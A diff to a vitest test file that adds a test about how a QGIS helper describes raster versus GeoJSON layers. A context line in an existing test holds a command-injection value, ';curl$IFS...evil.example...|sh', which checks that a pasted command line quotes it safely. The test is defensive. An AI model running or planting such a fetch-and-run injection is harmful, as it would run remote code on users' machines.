@@ -3,6 +3,7 @@ import { expect, test } from 'vitest';
 import { generateOpenApi } from '../openapi/generate.ts';
 import { buildOperations } from '../operations/index.ts';
 import { docsPage } from './docs-page.ts';
+import { openInQgis } from './item-files.ts';
 import { firstPage, type FirstPageFacts } from './first-page.ts';
 import { PAGE_HEADERS, SCRIPT_HEADERS } from './layout.ts';
 import { markdown } from './markdown.ts';
@@ -82,6 +83,15 @@ test('a line to paste holds the address that was asked as one word, whatever sta
     .split('\n')
     .find((text) => text.includes('evil'));
   expect(line).toContain(` 'http://h/api/v1/runs/;curl$IFS'\\''evil.example'\\''|sh;/' -H`);
+});
+
+test('how QGIS reads a layer follows from its format: a raster by its parts, a GeoJSON as a whole', async () => {
+  const file = { title: 'Layer', kind: 'GeoTIFF', href: '/x', address: 'http://h/x', latest: 'http://h/latest/x' };
+  const shown = async (layer: 'raster' | 'vector') =>
+    String(await openInQgis([{ ...file, name: 'x', bytes: 1, isMain: true, layer }]));
+  expect(await shown('raster')).toContain('and only the parts that it shows.');
+  expect(await shown('vector')).toContain('the whole file each time it opens it.');
+  expect(await shown('vector')).not.toContain('parts');
 });
 
 test('descriptions are shown as they are meant, and nothing of them runs', async () => {
